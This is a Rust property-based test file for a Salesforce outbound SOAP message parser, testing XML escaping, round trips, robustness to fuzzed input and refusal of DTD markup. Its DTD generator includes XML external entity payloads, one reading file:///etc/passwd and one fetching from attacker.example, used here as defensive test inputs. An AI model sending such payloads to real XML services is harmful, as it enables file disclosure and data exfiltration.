fn a_parse_error_message_fits_in_a_fault() {
    let error = parse_err(&REFERENCE.replace("Activated", "&foo;"));
    let body = fault(FaultCode::Client, &error.to_string());
    assert_eq!(joined_text(&body, "faultstring"), error.to_string());
}

// ---- properties ----

/// Escapes text for character data the way a careful writer does.
fn escape_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    out
}

fn escape_attribute(text: &str) -> String {
    escape_text(text).replace('"', "&quot;")
}

#[derive(Debug, Clone)]
struct Written {
    id: String,
    sobject_type: String,
    fields: BTreeMap<String, String>,
}

#[derive(Debug, Clone)]
struct Prefixes {
    envelope: &'static str,
    outbound: Option<&'static str>,
    sobject: &'static str,
    xsi: &'static str,
    type_prefixed: bool,
}

fn write_message(prefixes: &Prefixes, notifications: &[Written]) -> String {
    let env = prefixes.envelope;
    let xsi = prefixes.xsi;
    let (out_open, out) = match prefixes.outbound {
        Some(p) => (format!("{p}:notifications xmlns:{p}"), format!("{p}:")),
        None => ("notifications xmlns".to_owned(), String::new()),
    };
    let mut xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<{env}:Envelope xmlns:{env}=\"{}\" xmlns:{xsi}=\"{}\"><{env}:Body>\n<{out_open}=\"{}\">\n<{out}OrganizationId>{ORG_ID}</{out}OrganizationId>\n",
        SOAP_ENVELOPE_NS, XSI_NS, OUTBOUND_NS
    );
    for n in notifications {
        let sf = prefixes.sobject;
        let type_name = if prefixes.type_prefixed {
            format!("{sf}:{}", n.sobject_type)
        } else {
            n.sobject_type.clone()
        };
        xml.push_str(&format!(
            "<{out}Notification><{out}Id>{}</{out}Id><{out}sObject {xsi}:type=\"{}\" xmlns:{sf}=\"{}\">",
            escape_text(&n.id),
            escape_attribute(&type_name),
            SOBJECT_NS
        ));
        for (name, value) in &n.fields {
            xml.push_str(&format!(
                "<{sf}:{name}>{}</{sf}:{name}>",
                escape_text(value)
            ));
        }
        xml.push_str(&format!("</{out}sObject></{out}Notification>\n"));
    }
    xml.push_str(&format!(
        "</{}notifications></{env}:Body></{env}:Envelope>",
        out
    ));
    xml
}

fn xml_trimmed(text: &str) -> &str {
    text.trim_matches([' ', '\t', '\r', '\n'])
}

fn field_text() -> impl Strategy<Value = String> {
    let chunk = prop_oneof![
        "\\PC{0,8}",
        Just("<&>".to_owned()),
        Just("]]>".to_owned()),
        Just("&amp;".to_owned()),
        Just("\"'".to_owned()),
        Just(" \r\n\t".to_owned()),
        Just("é漢字🦀\u{10FFFF}".to_owned()),
        Just("<!DOCTYPE x>".to_owned()),
        Just("<?pi?>".to_owned()),
    ];
    proptest::collection::vec(chunk, 0..6).prop_map(|chunks| chunks.concat())
}

fn written_notification() -> impl Strategy<Value = Written> {
    (
        // Notification Ids are Salesforce Ids (15 characters, or 18 with their checksum).
        ("04l[A-Za-z0-9]{12}", any::<bool>()).prop_map(|(base, long)| {
            let id = crate::salesforce::SfId::parse(&base).expect("15 alphanumerics");
            if long { id.to_string() } else { base }
        }),
        "[A-Z][A-Za-z0-9_]{0,30}",
        proptest::collection::btree_map("[A-Z][A-Za-z0-9_]{0,20}", field_text(), 0..6),
    )
        .prop_map(|(id, sobject_type, fields)| Written {
            id,
            sobject_type,
            fields,
        })
}

fn prefixes() -> impl Strategy<Value = Prefixes> {
    (
        prop::sample::select(vec!["soapenv", "s", "SOAP-ENV", "e1"]),
        prop::sample::select(vec![None, Some("o"), Some("out")]),
        prop::sample::select(vec!["sf", "x", "ns1"]),
        prop::sample::select(vec!["xsi", "i"]),
        any::<bool>(),
    )
        .prop_map(
            |(envelope, outbound, sobject, xsi, type_prefixed)| Prefixes {
                envelope,
                outbound,
                sobject,
                xsi,
                type_prefixed,
            },
        )
}

/// XML-ish fragments, so random documents reach past the first few bytes.
fn token_soup() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        Just("<".to_owned()),
        Just(">".to_owned()),
        Just("</".to_owned()),
        Just("/>".to_owned()),
        Just("&".to_owned()),
        Just(";".to_owned()),
        Just("&amp;".to_owned()),
        Just("&#x41;".to_owned()),
        Just("<![CDATA[".to_owned()),
        Just("]]>".to_owned()),
        Just("<!--".to_owned()),
        Just("-->".to_owned()),
        Just("<?".to_owned()),
        Just("?>".to_owned()),
        Just("=\"".to_owned()),
        Just("\"".to_owned()),
        Just(" ".to_owned()),
        Just(
            "soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\""
                .to_owned()
        ),
        Just("soapenv:Body".to_owned()),
        Just("notifications xmlns=\"http://soap.sforce.com/2005/09/outbound\"".to_owned()),
        Just("notifications".to_owned()),
        Just("OrganizationId".to_owned()),
        Just(ORG_ID.to_owned()),
        Just("Notification".to_owned()),
        Just("Id".to_owned()),
        Just(
            "sObject xsi:type=\"sf:Order\" xmlns:sf=\"urn:sobject.enterprise.soap.sforce.com\""
                .to_owned()
        ),
        Just("xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"".to_owned()),
        Just("sf:Id".to_owned()),
        "[a-z:]{1,6}",
    ];
    proptest::collection::vec(token, 0..80).prop_map(|tokens| tokens.concat())
}

/// Whatever `parse` accepts satisfies the documented guarantees.
fn check_invariants(result: Result<OutboundMessage, OutboundError>) {
    match result {
        Ok(message) => {
            assert!(crate::salesforce::SfId::parse(&message.organization_id).is_ok());
            assert!((1..=MAX_NOTIFICATIONS).contains(&message.notifications.len()));
            for notification in &message.notifications {
                assert!(!notification.id.is_empty());
                assert!(!notification.sobject_type.is_empty());
                assert_eq!(
                    notification.record_id.as_ref(),
                    notification.fields.get("Id")
                );
            }
        }
        Err(error) => {
            assert!(!error.to_string().is_empty());
            let _ = error.field();
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn parsing_never_panics_on_arbitrary_bytes(body in proptest::collection::vec(any::<u8>(), 0..2048)) {
        check_invariants(parse(&body));
    }

    #[test]
    fn parsing_never_panics_on_xml_like_token_soup(body in token_soup()) {
        check_invariants(parse(body.as_bytes()));
    }

    #[test]
    fn parsing_never_panics_on_truncated_or_mutated_valid_messages(
        cut in 0usize..=REFERENCE.len(),
        flips in proptest::collection::vec((0usize..REFERENCE.len(), any::<u8>()), 0..8),
        insertions in proptest::collection::vec((0usize..REFERENCE.len(), any::<u8>()), 0..3),
    ) {
        let mut body = REFERENCE.as_bytes().to_vec();
        for (at, byte) in flips {
            body[at] = byte;
        }
        for (at, byte) in insertions {
            body.insert(at.min(body.len()), byte);
        }
        body.truncate(cut);
        check_invariants(parse(&body));
    }

    #[test]
    fn a_truncated_valid_message_never_parses(cut in 0usize..REFERENCE.trim_end().rfind('>').unwrap()) {
        prop_assert!(parse(&REFERENCE.as_bytes()[..cut]).is_err());
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn written_messages_round_trip_through_parse(
        prefixes in prefixes(),
        notifications in proptest::collection::vec(written_notification(), 1..=MAX_NOTIFICATIONS),
    ) {
        let xml = write_message(&prefixes, &notifications);
        let message = match parse(xml.as_bytes()) {
            Ok(message) => message,
            Err(error) => return Err(TestCaseError::fail(format!("{error}\n{xml}"))),
        };
        prop_assert_eq!(&message.organization_id, ORG_ID);
        prop_assert_eq!(message.notifications.len(), notifications.len());
        for (parsed, written) in message.notifications.iter().zip(&notifications) {
            prop_assert_eq!(&parsed.id, &written.id);
            prop_assert_eq!(&parsed.sobject_type, &written.sobject_type);
            let expected: BTreeMap<String, String> = written
                .fields
                .iter()
                .map(|(name, value)| (name.clone(), xml_trimmed(value).to_owned()))
                .collect();
            prop_assert_eq!(&parsed.fields, &expected);
            prop_assert_eq!(parsed.record_id.as_ref(), expected.get("Id"));
        }
    }
}

/// `<!` and a DTD keyword in random casing, with optional whitespace after `<!`.
fn dtd_markup() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec!["DOCTYPE", "ENTITY", "ELEMENT", "ATTLIST", "NOTATION"]),
        proptest::collection::vec(any::<bool>(), 8),
        "[ \t\r\n]{0,3}",
        prop_oneof![
            Just(String::new()),
            Just(" lolz [<!ENTITY lol \"lol\">]>".to_owned()),
            Just(" x SYSTEM \"file:///etc/passwd\">".to_owned()),
            Just(" % p SYSTEM \"http://attacker.example/\">%p;".to_owned()),
            "[^<]{0,16}",
        ],
    )
        .prop_map(|(keyword, upper, blanks, tail)| {
            let keyword: String = keyword
                .chars()
                .zip(upper.iter().cycle())
                .map(|(c, up)| {
                    if *up {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect();
            format!("<!{blanks}{keyword}{tail}")
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn dtd_markup_inserted_anywhere_in_a_valid_message_is_refused(
        markup in dtd_markup(),
        at in 0usize..=REFERENCE.len(),
    ) {
        let mut body = REFERENCE.to_owned();
        body.insert_str(at, &markup);
        let result = parse(body.as_bytes());
        prop_assert!(
            matches!(result, Err(OutboundError::Doctype { .. })),
            "{:?}\n{}",
            result,
            body
        );
    }

    #[test]
    fn dtd_markup_inserted_into_arbitrary_input_is_refused(
        markup in dtd_markup(),
        body in prop_oneof![
            token_soup().prop_map(String::into_bytes),
            proptest::collection::vec(any::<u8>(), 0..512),
        ],
        at in any::<prop::sample::Index>(),
    ) {
        let mut body = body;
        let at = at.index(body.len() + 1);
        body.splice(at..at, markup.bytes());
        let result = parse(&body);
        prop_assert!(
            matches!(result, Err(OutboundError::Doctype { .. })),
            "{:?}",
            result
        );
    }

    #[test]
    fn nothing_containing_dtd_markup_is_ever_accepted(body in token_soup()) {
        let lower = body.to_ascii_lowercase();
        let has_dtd = ["<!doctype", "<!entity", "<!element", "<!attlist", "<!notation"]
            .iter()
            .any(|m| lower.contains(m));
        if has_dtd {
            prop_assert!(parse(body.as_bytes()).is_err());
        }
    }
}
